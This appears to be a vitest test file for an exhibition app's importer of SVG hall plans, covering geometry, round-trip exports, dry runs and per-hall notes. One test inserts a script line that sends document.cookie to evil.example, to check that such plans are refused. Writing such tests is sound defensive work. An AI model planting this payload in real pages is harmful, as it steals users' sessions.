/**
 * Hall plans from a folder of SVG files: read into geometry, written back as the same form (export →
 * import is "0 changed"), one moved stand is one change, a dry run and a refused file write nothing, and
 * the report says per hall what to look at (free stands, stands on no plan, a door with no way back, a
 * shape outside the outline).
 */
import { execFile } from 'node:child_process';
import { readFileSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { promisify } from 'node:util';
import { eq } from 'drizzle-orm';
import { afterAll, describe, expect, it } from 'vitest';
import { participants } from '../../server/db/schema';
import { storedPlans } from '../../server/import/kinds/halls';
import { runExport, runImport } from '../../server/import/run';
import { useApiServer } from '../support/api-server';
import { tempFolder, writeWorkbook } from '../support/import-workbooks';
import { seededExhibitions } from '../support/seeded-exhibitions';
import { importerFor } from './import-content-support';

const api = await useApiServer();
const { db } = api.server.deps;
const { current: CURRENT } = await seededExhibitions(db);
const importer = importerFor(db);
const root = tempFolder('import-halls');
afterAll(() => import('node:fs').then((fs) => fs.rmSync(root, { recursive: true, force: true })));

// A stand the catalogue has, drawn on the test's own hall: it is not a free stand.
const [exhibitor] = await db.select({ stands: participants.stands }).from(participants).where(eq(participants.exPrefix, CURRENT)).limit(1);
const SOLD = exhibitor?.stands[0];
if (!SOLD) throw new Error('the current exhibition has no exhibitor with a stand');

/** An Illustrator-style hall in centimetres: classes in <style>, stands as rect + text groups placed by matrices. */
const hallT1 = `<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
<svg version="1.1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px"
	 viewBox="0 0 4000 2000" data-metres-per-unit="0.01" xml:space="preserve">
<style type="text/css">
	.st0{fill:#F2F2F2;stroke:#1D1D1B;stroke-miterlimit:10;}
	.st1{font-family:'ArialMT';font-size:60px;}
</style>
<g id="Stands">
	<g id="T1A01" transform="matrix(1 0 0 1 200 200)">
		<rect class="st0" width="600" height="300"/>
		<text transform="matrix(1 0 0 1 200 170)" class="st1">T1A01</text>
	</g>
	<g id="T1A02" transform="matrix(1 0 0 1 800 200)">
		<rect class="st0" width="600" height="300"/>
		<text transform="matrix(1 0 0 1 200 170)"><tspan x="0" y="0" class="st1">T1A</tspan><tspan x="90" y="0" class="st1">02</tspan></text>
	</g>
	<rect data-stand="${SOLD}" class="st0" x="1400" y="200" width="600" height="300"/>
</g>
<line data-kind="wall" x1="0" y1="1000" x2="3000" y2="1000"/>
<rect data-kind="entrance" data-name="Северный вход" data-name-en="North entrance" data-name-zh="北入口" x="1800" y="1900" width="400" height="100"/>
<rect data-kind="door" data-to="T2" x="3900" y="800" width="100" height="400"/>
<rect data-kind="service" data-name="Кафе" data-name-en="Café" data-name-zh="" x="3000" y="1400" width="600" height="400"/>
<rect id="stand-T1B01" transform="rotate(90 3800 1900)" x="3800" y="1900" width="300" height="200"/>
</svg>
`;

/** A plain hall in metres, with a door to a hall that has no plan and a stand drawn past its outline. */
const hallT2 = `<svg xmlns="http://www.w3.org/2000/svg">
  <polygon data-kind="outline" points="0,0 30,0 30,20 0,20"/>
  <rect data-stand="T2A01" x="2" y="2" width="5" height="3"/>
  <path data-stand="T2A02" d="M10 2 h5 v3 a2 2 0 0 1 -5 0 z"/>
  <rect data-stand="T2A03" x="28" y="2" width="5" height="3"/>
  <rect data-kind="room" data-name="Конференц-зал 1" x="20" y="10" width="8" height="8"/>
  <rect data-kind="door" data-to="T9" x="0" y="8" width="1" height="3"/>
</svg>
`;

const hallRow = (key: string, order: string) => ({ key, name_ru: `Павильон ${key}`, name_en: `Hall ${key}`, name_zh: `${key}馆`, order });
const writeHallsSheet = (folder: string, rows: Record<string, string>[]) =>
  writeWorkbook(path.join(folder, 'halls.xlsx'), ['key', 'name_ru', 'name_en', 'name_zh', 'order'], rows, 'halls');

async function planFolder(name: string): Promise<string> {
  const folder = path.join(root, name);
  await import('node:fs/promises').then((fs) => fs.mkdir(folder, { recursive: true }));
  writeFileSync(path.join(folder, 'T1.svg'), hallT1);
  writeFileSync(path.join(folder, 'T2.svg'), hallT2);
  await writeHallsSheet(folder, [hallRow('T1', '1'), hallRow('T2', '2')]);
  return folder;
}

const importHalls = (source: string, dryRun = false, prune = false) =>
  runImport(db, { kind: 'halls', source, exhibition: CURRENT, dryRun, prune });

const plans = () => storedPlans(db, CURRENT);

/** The test file's plans, imported once whichever test runs first (each test passes alone too). */
let imported: Promise<Awaited<ReturnType<typeof importHalls>>> | null = null;
const importedOnce = () => (imported ??= planFolder('first').then((source) => importHalls(source)));

let exports = 0;
/** A fresh export of what is stored, in a folder of its own. */
async function exported(): Promise<string> {
  await importedOnce();
  exports += 1;
  const target = path.join(root, `exported-${exports}`);
  const { rows } = await runExport(db, { kind: 'halls', target, exhibition: CURRENT });
  expect(rows).toBe((await plans()).halls.length);
  return target;
}

/** The test's own halls, beside the seed's. */
async function ourPlans() {
  const all = await plans();
  const ours = new Set(all.halls.filter((hall) => hall.key === 'T1' || hall.key === 'T2').map((hall) => hall.id));
  return { halls: all.halls.filter((hall) => ours.has(hall.id)), shapes: all.shapes.filter((shape) => ours.has(shape.hallId)) };
}

const shapeOf = async (stand: string) => (await ourPlans()).shapes.find((shape) => shape.stand === stand);

describe('importing hall plans', () => {
  it('reads an Illustrator-style and a plain SVG into halls and shapes in metres, named by halls.xlsx', async () => {
    const report = await importedOnce();
    expect(report.problems).toEqual([]);
    const stored = await ourPlans();
    expect(stored.halls.map((hall) => [hall.key, hall.name.en, hall.sortOrder, hall.metresPerUnit])).toEqual([
      ['T1', 'Hall T1', 1, 0.01],
      ['T2', 'Hall T2', 2, 1],
    ]);
    expect(stored.halls[0]?.outline).toEqual([0, 0, 40, 0, 40, 20, 0, 20]);
    expect(stored.shapes).toHaveLength(13);
    expect(report.counts).toMatchObject({ added: 2 + 13, changed: 0, removed: 0 });
    expect((await shapeOf('T1A01'))?.points).toEqual([2, 2, 8, 2, 8, 5, 2, 5]);
    expect((await shapeOf('T1A02'))?.points).toEqual([8, 2, 14, 2, 14, 5, 8, 5]);
    expect((await shapeOf(SOLD))?.points).toEqual([14, 2, 20, 2, 20, 5, 14, 5]);
    // A quarter turn about its corner (38, 19) in centimetres.
    expect((await shapeOf('T1B01'))?.points).toEqual([38, 19, 38, 22, 36, 22, 36, 19]);
    const door = stored.shapes.find((shape) => shape.kind === 'door' && shape.toHall === 'T2');
    expect(door?.points).toEqual([39, 8, 40, 8, 40, 12, 39, 12]);
    expect(stored.shapes.find((shape) => shape.kind === 'room')?.name).toBe('Конференц-зал 1');
    expect(stored.shapes.filter((shape) => shape.names).map((shape) => [shape.kind, shape.name, shape.names])).toEqual([
      ['entrance', 'Северный вход', { en: 'North entrance', zh: '北入口' }],
      ['service', 'Кафе', { en: 'Café' }],
    ]);
  });

  it('reports per hall what to look at: free stands, catalogue stands on no plan, doors without a way back, shapes outside', async () => {
    // With --prune the other stored plans (the seed's) would go, so the catalogue's stands are on this run's plans only.
    const report = await importHalls(await planFolder('notes'), true, true);
    expect(report.problems).toEqual([]);
    const notes = report.steps[0]?.notes ?? [];
    const note = (key: string, pattern: RegExp) => notes.find((entry) => entry.key === key && pattern.test(entry.message));
    expect(note('hall T1', /no exhibitor/)?.items).toEqual(['T1A01', 'T1A02', 'T1B01']);
    expect(note('hall T2', /no exhibitor/)?.items).toEqual(['T2A01', 'T2A02', 'T2A03']);
    expect(note('hall T1', /leads to hall T2, which has no door back/)).toBeDefined();
    expect(note('hall T2', /leads to hall T9, which has no plan/)).toBeDefined();
    expect(note('hall T2', /outside the hall's outline/)?.items).toEqual(['stand T2A03 (line 5)']);
    // T1B01 is turned past the bottom edge of T1 (38,19 → 36..38, 19..22).
    expect(note('hall T1', /outside the hall's outline/)?.items).toEqual(['stand T1B01 (line 24)']);
    const stands = await db.select({ stands: participants.stands }).from(participants).where(eq(participants.exPrefix, CURRENT));
    const unplaced = new Set(stands.flatMap((row) => row.stands.filter(Boolean)));
    unplaced.delete(SOLD);
    const onNoPlan = notes
      .filter((entry) => /no shape on any plan|belong to no hall/.test(entry.message))
      .flatMap((entry) => entry.items ?? []);
    expect(unplaced.size).toBeGreaterThan(0);
    expect(new Set(onNoPlan)).toEqual(unplaced);
  });

  it('notes a stand number drawn on two halls', async () => {
    const source = await planFolder('twice');
    writeFileSync(
      path.join(source, 'T3.svg'),
      `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect data-stand="T2A01" x="1" y="1" width="3" height="3"/></svg>`,
    );
    const report = await importHalls(source, true);
    expect(report.problems).toEqual([]);
    const notes = report.steps[0]?.notes ?? [];
    expect(notes).toEqual(
      expect.arrayContaining([
        { key: 'hall T2', message: 'stand T2A01 is also on hall T3' },
        { key: 'hall T3', message: 'stand T2A01 is also on hall T2' },
      ]),
    );
  });

  it('refuses a folder whose plans disagree: a stand drawn twice in a hall, a file name that is no hall key, a sheet row without its plan', async () => {
    const source = await planFolder('disagree');
    writeFileSync(path.join(source, 'T2.svg'), hallT2.replace('data-stand="T2A02"', 'data-stand="T2A01"'));
    writeFileSync(path.join(source, 'plan of hall 5.svg'), hallT2);
    await writeHallsSheet(source, [hallRow('t1', '1'), hallRow('T7', '7')]);
    const version = await importer.contentVersion();
    const report = await importHalls(source);
    expect(report.problems).toHaveLength(3);
    expect(report.problems).toEqual(
      expect.arrayContaining([
        { file: 'T2.svg', row: 4, column: '<path>', message: 'stand T2A01 is drawn twice (also on line 3)' },
        { file: 'halls.xlsx', sheet: 'halls', row: 3, column: 'key', message: 'there is no T7.svg in the folder' },
        { file: 'plan of hall 5.svg', message: 'the file name is the hall key: letters, digits, - or _, then .svg' },
      ]),
    );
    expect(await importer.contentVersion()).toBe(version);
  });

  it('export → import reports "0 changed" and writes nothing', async () => {
    const target = await exported();
    expect(readdirSync(target)).toEqual(expect.arrayContaining(['T1.svg', 'T2.svg', 'halls.xlsx']));
    const stored = await plans();
    const version = await importer.contentVersion();
    const report = await importHalls(target);
    expect(report.problems).toEqual([]);
    expect(report.counts).toEqual({ added: 0, changed: 0, unchanged: stored.halls.length + stored.shapes.length, removed: 0, kept: 0 });
    expect(await importer.contentVersion()).toBe(version);
  });

  it('one moved stand is "1 changed", and a dry run of it writes nothing', async () => {
    const source = await exported();
    const file = path.join(source, 'T2.svg');
    const svg = readFileSync(file, 'utf8');
    const moved = svg.replace(/(<polygon data-stand="T2A01" points=")[^"]*"/, '$12,12 7,12 7,15 2,15"');
    expect(moved).not.toBe(svg);
    writeFileSync(file, moved);

    const version = await importer.contentVersion();
    const dry = await importHalls(source, true);
    expect(dry.problems).toEqual([]);
    expect(dry.steps[0]?.counts).toMatchObject({ added: 0, changed: 1, removed: 0 });
    expect(dry.steps[0]?.changes?.changed).toEqual([
      { key: 'T2 stand T2A01', fields: [{ field: 'points', before: '[2,2,7,2,7,5,2,5]', after: '[2,12,7,12,7,15,2,15]' }] },
    ]);
    expect(await importer.contentVersion()).toBe(version);
    expect((await shapeOf('T2A01'))?.points).toEqual([2, 2, 7, 2, 7, 5, 2, 5]);

    const report = await importHalls(source);
    expect(report.counts).toMatchObject({ added: 0, changed: 1, removed: 0 });
    expect((await shapeOf('T2A01'))?.points).toEqual([2, 12, 7, 12, 7, 15, 2, 15]);
  });

  it('an entrance’s English name changed alone is "1 changed" of that entrance, and the import writes it', async () => {
    const source = await exported();
    const file = path.join(source, 'T1.svg');
    const svg = readFileSync(file, 'utf8');
    const renamed = svg.replace('data-name-en="North entrance"', 'data-name-en="North gate"');
    expect(renamed).not.toBe(svg);
    writeFileSync(file, renamed);

    const dry = await importHalls(source, true);
    expect(dry.problems).toEqual([]);
    expect(dry.steps[0]?.counts).toMatchObject({ added: 0, changed: 1, removed: 0 });
    expect(dry.steps[0]?.changes?.changed).toEqual([
      { key: 'T1 entrance Северный вход', fields: [{ field: 'names_en', before: 'North entrance', after: 'North gate' }] },
    ]);
    const entrance = async () => (await ourPlans()).shapes.find((shape) => shape.kind === 'entrance');
    expect((await entrance())?.names).toEqual({ en: 'North entrance', zh: '北入口' });

    const report = await importHalls(source);
    expect(report.counts).toMatchObject({ added: 0, changed: 1, removed: 0 });
    expect((await entrance())?.names).toEqual({ en: 'North gate', zh: '北入口' });
    expect((await entrance())?.name).toBe('Северный вход');
  });

  it('refuses a plan with a <script>, naming file, line and element, and writes nothing', async () => {
    const source = await exported();
    const file = path.join(source, 'T1.svg');
    const lines = readFileSync(file, 'utf8').split('\n');
    lines.splice(3, 0, '  <script>fetch("https://evil.example/?" + document.cookie)</script>');
    writeFileSync(file, lines.join('\n'));
    // Another change in the same run, which must not be written either.
    writeFileSync(path.join(source, 'T2.svg'), hallT2.replace('x="2" y="2" width="5"', 'x="3" y="2" width="5"'));

    const before = await plans();
    const version = await importer.contentVersion();
    const report = await importHalls(source);
    expect(report.problems).toEqual([{ file: 'T1.svg', row: 4, column: '<script>', message: 'a script is not allowed in a hall plan' }]);
    expect(report.counts).toBeNull();
    expect(await importer.contentVersion()).toBe(version);
    expect(await plans()).toEqual(before);
  });

  it(
    'the command runs beside the running server: npm run import -- halls <folder> --exhibition … --dry-run prints the plan and the notes',
    { timeout: 120_000 },
    async () => {
      await importedOnce();
      const source = await exported();
      const { env } = api.server.deps;
      const { stdout, stderr } = await promisify(execFile)(
        process.execPath,
        ['--import', 'tsx', 'server/cli/import.ts', 'halls', source, '--exhibition', CURRENT, '--dry-run'],
        { env: { ...process.env, DATA_DIR: env.DATA_DIR, DATABASE_URL: env.DATABASE_URL ?? '', SEED: 'off' }, cwd: process.cwd() },
      );
      const stored = await plans();
      expect(stdout).toContain(`halls: would add 0, change 0, remove 0; ${stored.halls.length + stored.shapes.length} unchanged`);
      expect(stdout).toMatch(/! hall T2: .*no exhibitor \(free stands\): T2A01, T2A02, T2A03/);
      expect(stdout).toContain('nothing was written');
      // On PGlite the command hands the job to the server that holds the database.
      if (!env.DATABASE_URL) expect(stderr).toContain('handed to the server');
    },
  );
});
